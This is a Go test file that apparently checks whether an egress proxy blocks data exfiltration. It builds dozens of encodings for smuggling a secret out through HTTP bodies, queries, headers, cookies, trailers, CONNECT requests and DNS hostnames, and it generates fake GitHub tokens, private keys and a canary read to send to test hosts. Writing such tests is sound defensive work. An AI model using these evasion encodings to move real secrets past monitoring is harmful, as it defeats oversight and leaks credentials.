//go:build linux

package main

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"hash/crc32"
	"io"
	"math/big"
	"net/url"
	"os"
	"slices"
	"strings"
)

// leak is one request that carries a value out.
type leak struct {
	method, path, body string
	headers            []string
}

func body(text string, headers ...string) leak { return leak{"POST", "", text, headers} }

func pack(z io.WriteCloser, out *bytes.Buffer, text string) string {
	_, _ = io.WriteString(z, text) // into memory
	_ = z.Close()
	return out.String()
}

func gzipped(text string) string {
	var b bytes.Buffer
	return pack(gzip.NewWriter(&b), &b, text)
}

func deflated(text string) string {
	var b bytes.Buffer
	return pack(zlib.NewWriter(&b), &b, text)
}

// zstandard is one raw block of RFC 8878, for texts below 256 bytes.
func zstandard(text string) string {
	head := []byte{0x28, 0xb5, 0x2f, 0xfd, 0x20, byte(len(text))}
	size := len(text)<<3 | 1
	return string(append(head, byte(size), byte(size>>8), byte(size>>16))) + text
}

func reversed(s string) string {
	b := []byte(s)
	slices.Reverse(b)
	return string(b)
}

func everyByte(s, format string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, format, s[i])
	}
	return b.String()
}

func times(n int, f func(string) string, s string) string {
	for range n {
		s = f(s)
	}
	return s
}

func chunked(pieces ...string) string {
	var b strings.Builder
	for _, p := range append(pieces, "") {
		fmt.Fprintf(&b, "%x\r\n%s\r\n", len(p), p)
	}
	return b.String()
}

func multipart(parts ...string) string {
	var b strings.Builder
	for n, p := range parts {
		fmt.Fprintf(&b, "--cut\r\nContent-Disposition: form-data; name=\"p%d\"\r\n\r\n%s\r\n", n, p)
	}
	return b.String() + "--cut--\r\n"
}

// leaks are the ways to carry a known value v.
func leaks(v string) map[string]leak {
	const form, jsonType = "Content-Type: application/x-www-form-urlencoded", "Content-Type: application/json"
	const parts = "Content-Type: multipart/form-data; boundary=cut"
	std, half := base64.StdEncoding.EncodeToString, len(v)/2
	encode := func(s string) string { return std([]byte(s)) }
	all := map[string]leak{
		"body, plain":                   body("a " + v + " b"),
		"body, JSON":                    body(`{"a":"`+v+`"}`, jsonType),
		"body, JSON escapes":            body(`{"a":"`+everyByte(v, `\u%04x`)+`"}`, jsonType),
		"body, JSON, slashes escaped":   body(`{"a":"`+strings.ReplaceAll(v, "/", `\/`)+`"}`, jsonType),
		"body, form":                    body("a="+url.QueryEscape(v), form),
		"body, every byte %-encoded":    body("a="+everyByte(v, "%%%02x"), form),
		"body, %-encoded three times":   body("a="+times(3, url.QueryEscape, everyByte(v, "%%%02x")), form),
		"body, YAML":                    body("a:\n  b: "+v+"\n", "Content-Type: application/yaml"),
		"body, hex":                     body("x=" + hex.EncodeToString([]byte(v))),
		"body, HEX":                     body("x=" + strings.ToUpper(hex.EncodeToString([]byte(v)))),
		"body, base64 three times":      body(times(3, encode, v)),
		"body, base64url":               body("a=" + base64.RawURLEncoding.EncodeToString([]byte("??>>"+v))),
		"body, reversed":                body("a " + reversed(v)),
		"body, with separators":         body(strings.Join(strings.Split(v, ""), "-")),
		"body, with line feeds":         body(strings.Join(strings.Split(v, ""), "\n")),
		"body, gzip":                    body(gzipped(v), "Content-Encoding: gzip"),
		"body, deflate":                 body(deflated(v), "Content-Encoding: deflate"),
		"body, zstd":                    body(zstandard(v), "Content-Encoding: zstd"),
		"body, gzip twice":              body(gzipped(gzipped(v)), "Content-Encoding: gzip, gzip"),
		"body, gzip that is not named":  body(gzipped(v)),
		"body, gzip in base64":          body(encode(gzipped(v))),
		"body, in chunks":               {"POST", "", chunked(v[:5], v[5:half], v[half:]), []string{"Transfer-Encoding: chunked"}},
		"body, a byte a chunk":          {"POST", "", chunked(strings.Split(v, "")...), []string{"Transfer-Encoding: chunked"}},
		"body, multipart":               body(multipart("x", v), parts),
		"body, over two parts":          body(multipart(v[:half], v[half:]), parts),
		"body, base64 over two parts":   body(multipart(encode(v)[:20], encode(v)[20:]), parts),
		"body, behind 7 MiB of nothing": body(strings.Repeat("nothing to see ", 7<<16) + v),
		"query":                         {"GET", "?a=" + url.QueryEscape(v), "", nil},
		"query, base64":                 {"GET", "?a=" + url.QueryEscape(encode(v)), "", nil},
		"query, hex":                    {"GET", "?a=" + hex.EncodeToString([]byte(v)), "", nil},
		"path":                          {"GET", "/" + everyByte(v, "%%%02x"), "", nil},
		"header":                        {"GET", "", "", []string{"X-Note: " + v}},
		"header, base64":                {"GET", "", "", []string{"X-Note: " + encode(v)}},
		"header, over two":              {"GET", "", "", []string{"X-Note: " + v[:half], "X-Note: " + v[half:]}},
		"cookie":                        {"GET", "", "", []string{"Cookie: a=" + v}},
		"name of a header":              {"GET", "", "", []string{"X-" + hex.EncodeToString([]byte(v)) + ": 1"}},
		"body of a GET":                 {"GET", "", v, nil},
	}
	for shift := range 3 {
		all[fmt.Sprintf("body, base64 at %d", shift)] = body(encode(strings.Repeat("x", shift) + v + "yy"))
	}
	return all
}

// gitHubToken looks like one, made up here and now.
func gitHubToken() string {
	secret := make([]byte, 15)
	_, _ = rand.Read(secret) // never fails
	random := hex.EncodeToString(secret)
	return "ghp_" + random + base62(crc32.ChecksumIEEE([]byte(random)))
}

// base62 is a checksum as GitHub's tokens end with: six digits.
func base62(n uint32) string {
	const digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	s := ""
	for v := new(big.Int).SetUint64(uint64(n)); len(s) < 6; {
		rest := new(big.Int)
		v.DivMod(v, big.NewInt(62), rest)
		s = string(digits[rest.Int64()]) + s
	}
	return s
}

func privateKey() string {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		panic(err) // the system has no randomness
	}
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		panic(err) // it was made for that
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
}

// send makes a leak a request to a host, whose path names row and leak.
func (l leak) send(host, path string) string {
	return through(host+":443", host, l.request(path, host))
}

func (l leak) request(path, host string) string {
	if slices.ContainsFunc(l.headers, func(h string) bool { return h == "Transfer-Encoding: chunked" }) {
		return request(l.method, path+l.path, host, "", l.headers...) + l.body
	}
	return request(l.method, path+l.path, host, l.body, l.headers...)
}

func init() {
	const scanned = "403 egress|413 egress|415 egress"
	rows["C7"] = func(w *world) []variant {
		return []variant{
			{"the control: a harmless body", "200", func() string { return body(`{"prompt":"keep the key out"}`).send(w.Loud, "/loud/C7") }},
			{"a body too large to be scanned", scanned, func() string { return body(strings.Repeat("nothing to see ", 10<<16)).send(w.Loud, "/mute/C7") }},
			{"body, a GitHub token with its checksum", scanned, func() string { return body("token "+gitHubToken()).send(w.Loud, "/mute/C7") }},
			{"body, a private key", scanned, func() string { return body(privateKey()).send(w.Loud, "/mute/C7") }},
			{"body, an unknown coding", scanned, func() string { return body("hello", "Content-Encoding: rot13").send(w.Loud, "/mute/C7") }},
			{"body, gzip that is none", scanned + "|400", func() string { return body("hello", "Content-Encoding: gzip").send(w.Loud, "/mute/C7") }},
		}
	}
	costly["C7"] = func(w *world) []variant {
		var all []variant
		for name, l := range leaks(w.Leak) {
			all = append(all, variant{name, scanned, func() string { return l.send(w.Loud, "/mute/C7") }})
		}
		plainLeak := leaks(w.Leak)["body, plain"]
		return append(all,
			variant{"trailer: blocked, or not passed on", scanned + "|200", func() string {
				return leak{"POST", "", "1\r\na\r\n0\r\nX-Note: " + w.Leak + "\r\n\r\n", []string{"Transfer-Encoding: chunked", "Trailer: X-Note"}}.
					send(w.Loud, "/loud/C7-trailer")
			}},
			variant{"body, plain, by HTTP without TLS", scanned, func() string { return explicit(plainLeak.request("http://"+w.Loud+"/mute/C7", w.Loud)) }},
			variant{"body, plain, without a proxy", scanned, func() string { return unasked(w.Loud, plainLeak.request("/mute/C7", w.Loud)) }},
			variant{"query, by HTTP/2", "403", func() string { return streams(w.Loud, fields("GET", w.Loud, "/mute/C7?a="+url.QueryEscape(w.Leak))) }},
			variant{"the bottle's canary", scanned, func() string {
				canary := os.Getenv(w.CanaryName)
				if canary == "" {
					return "there is no canary in " + w.CanaryName
				}
				return body("x "+canary).send(w.Auth, "/mute/C7")
			}})
	}
	rows["D4"] = func(w *world) []variant {
		return []variant{
			{"a credential to a host that is not its own", scanned, func() string {
				return through(w.Loud+":443", w.Loud, get("/mute/D4-host", w.Loud, "X-Api-Key: "+w.Leak))
			}},
			{"a credential in an encoded body", scanned, func() string {
				return body(base64.StdEncoding.EncodeToString([]byte(w.Leak))).send(w.Auth, "/mute/D4-body")
			}},
		}
	}
	costly["D4"] = func(w *world) []variant {
		return []variant{
			{"a credential in the head of CONNECT: blocked, or not passed on", "403|200", func() string {
				c, said := connect(w.Loud+":443", "X-Api-Key: "+w.Leak, "Proxy-Authorization: Bearer "+w.Leak)
				if c == nil {
					return said
				}
				t, said := handshake(c, newClient(w.Loud))
				if t == nil {
					return said
				}
				defer t.Close()
				return exchange(t, get("/loud/D4-connect", w.Loud))
			}},
			{"a credential in the name of a host", "403|400", func() string {
				_, said := connect(hex.EncodeToString([]byte(w.Leak))[:60] + "." + w.mute("D4") + ":443")
				return said
			}},
		}
	}
}
